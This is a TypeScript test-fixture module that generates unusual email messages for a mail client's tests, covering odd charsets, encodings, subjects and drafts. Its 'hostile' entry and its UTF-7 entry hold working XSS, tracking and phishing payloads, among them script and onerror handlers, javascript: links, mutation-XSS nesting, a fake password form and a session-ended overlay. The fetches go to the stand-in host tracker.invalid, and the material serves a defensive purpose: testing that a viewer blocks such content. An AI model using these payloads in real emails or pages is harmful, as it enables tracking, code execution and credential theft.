import type { Recipe } from './generatedMails'
import { letter, letterHead } from './generatedLetter'
import { crlf, mimeOf, textPart } from './mimeText'

/** One part with a charset and an encoding of its own; `body` as bytes of that charset. */
function inCharset(
  name: string,
  subject: string,
  part: { type?: string; charset: string; encoding: string; body: Uint8Array },
): Uint8Array {
  return mimeOf(
    [
      ...letterHead(name, subject),
      ['Content-Type', `text/${part.type ?? 'plain'}; charset=${part.charset}`],
      ['Content-Transfer-Encoding', part.encoding],
    ],
    part.body,
  )
}

/** 会議の資料 in ISO-2022-JP: two bytes a sign, between the escapes for JIS X 0208 and back to ASCII. */
const JAPANESE_TITLE = Buffer.from('\x1b$B2q5D$N;qNA\x1b(B', 'latin1')

function japanese(): Uint8Array {
  const subject = `=?ISO-2022-JP?B?${JAPANESE_TITLE.toString('base64')}?=`
  const body = Buffer.concat([JAPANESE_TITLE, Buffer.from('\r\n')])
  return inCharset('iso-2022-jp', subject, { charset: 'ISO-2022-JP', encoding: '7bit', body })
}

function longHtml(bytes: number): Uint8Array {
  const row = '<tr><td>Anchor</td><td>M16, galvanised, torque checked and marked with yellow paint</td></tr>\r\n'
  const body = `<html><body><table>\r\n${row.repeat(Math.ceil(bytes / row.length))}</table></body></html>\r\n`
  return letter('long-html', 'List of all anchors', textPart(body, 'html'))
}

/** Whatever a hostile sender may try; every address lies on tracker.invalid, so that a test sees any that is asked. */
const HOSTILE_HTML = `<html><head>
<base href="https://tracker.invalid/base/">
<meta http-equiv="refresh" content="0;url=https://tracker.invalid/refresh">
<link rel="stylesheet" href="https://tracker.invalid/link.css">
<link rel="prefetch" href="https://tracker.invalid/prefetch">
<style>@import url("https://tracker.invalid/import.css"); body { background: url(https://tracker.invalid/body.png) }</style>
<script>fetch("https://tracker.invalid/script")</script>
</head><body background="https://tracker.invalid/background.png" onload="fetch('https://tracker.invalid/onload')">
<p style="background-image: url('https://tracker.invalid/style.png')">The invoice is due today.</p>
<img src="https://tracker.invalid/pixel.png" width="1" height="1" alt="">
<img srcset="https://tracker.invalid/set-1.png 1x, https://tracker.invalid/set-2.png 2x" alt="">
<img src="x" onerror="fetch('https://tracker.invalid/onerror')" alt="">
<picture><source srcset="https://tracker.invalid/source.png"><img src="https://tracker.invalid/picture.png" alt=""></picture>
<video poster="https://tracker.invalid/poster.png"><source src="https://tracker.invalid/video.mp4"></video>
<form action="https://tracker.invalid/form" method="post"><input name="password" type="password" autofocus><button>Sign in</button></form>
<svg><script>fetch("https://tracker.invalid/svg")</script><image href="https://tracker.invalid/svg.png"></image></svg>
<svg><a xlink:href="javascript:alert(1)"><text y="20">Open</text></a></svg>
<math><mtext><table><mglyph><style><img src="https://tracker.invalid/math.png" onerror="alert(1)"></style></mglyph></table></mtext></math>
<a href="javascript:fetch('https://tracker.invalid/javascript')">Invoice</a>
<a href="&#106;avascript:alert(1)">Invoice again</a>
<a href="https://tracker.invalid/click" target="_top" ping="https://tracker.invalid/ping">Harmless to look at</a>
<iframe src="https://tracker.invalid/frame" srcdoc="<script>parent.alert(1)</script>"></iframe>
<object data="https://tracker.invalid/object"></object><embed src="https://tracker.invalid/embed">
<div style="position: fixed; inset: 0; z-index: 99999">Your session has ended.</div>
</body></html>
`

const encodedWord = (text: string) => `=?utf-8?B?${Buffer.from(text, 'utf8').toString('base64')}?=`

const subjectOnly = (name: string, subject: string) =>
  letter(name, subject, textPart('Nothing odd but the subject.\r\n'))

/** Mails whose text, charset or subject is odd. */
export const BODY_MAILS = {
  'eight-bit': {
    what: 'bytes above 0x7F in ISO-8859-1, not encoded',
    make: () =>
      inCharset('eight-bit', 'Eight bits', {
        charset: 'iso-8859-1',
        encoding: '8bit',
        body: Buffer.from('Stra\xdfe gesperrt, Caf\xe9 ge\xf6ffnet, 5 \xb0C\r\n', 'latin1'),
      }),
  },
  'utf-7': {
    what: 'a body in UTF-7, which hides a tag',
    make: () =>
      inCharset('utf-7', 'Seven bits', {
        type: 'html',
        charset: 'utf-7',
        encoding: '7bit',
        body: Buffer.from('<p>Gr+APwA3w-e</p>+ADw-script+AD4-alert(1)+ADw-/script+AD4-\r\n', 'ascii'),
      }),
  },
  'iso-2022-jp': { what: 'subject and body in ISO-2022-JP', make: japanese },
  'no-headers': { what: 'no header at all, only text', make: () => Buffer.from('\r\nA line from nobody.\r\n') },
  'long-html': { what: 'megabytes of HTML', make: ({ htmlBytes }) => longHtml(htmlBytes) },
  draft: {
    what: 'a draft that was never sent',
    folder: 'drafts',
    make: () =>
      mimeOf(
        [...letterHead('draft', 'Unfinished note'), ['X-Unsent', '1'], ['Content-Type', 'text/plain; charset=utf-8']],
        'To be continued\r\n',
      ),
  },
  'emoji-subject': { what: 'a subject of emoji only', make: () => subjectOnly('emoji-subject', encodedWord('🏗️🚧👷‍♀️')) },
  'bidi-subject': {
    what: 'a subject of bidirectional controls only',
    make: () => subjectOnly('bidi-subject', encodedWord('\u202e\u2066\u200f\u202c')),
  },
  'encoded-subject': {
    what: 'a subject in two encoded words, one quoted-printable, which break inside the text',
    make: () => subjectOnly('encoded-subject', '=?iso-8859-1?Q?=DCbergabe_der_Schl=FCs?=\r\n =?utf-8?B?c2VsIPCflJE=?='),
  },
  'no-subject': { what: 'an empty subject', make: () => subjectOnly('no-subject', '') },
  hostile: {
    what: 'HTML that asks the network, runs code and asks for a password, if it may',
    make: () => letter('hostile', 'Invoice due today', textPart(crlf(HOSTILE_HTML), 'html')),
  },
} as const satisfies Record<string, Recipe>
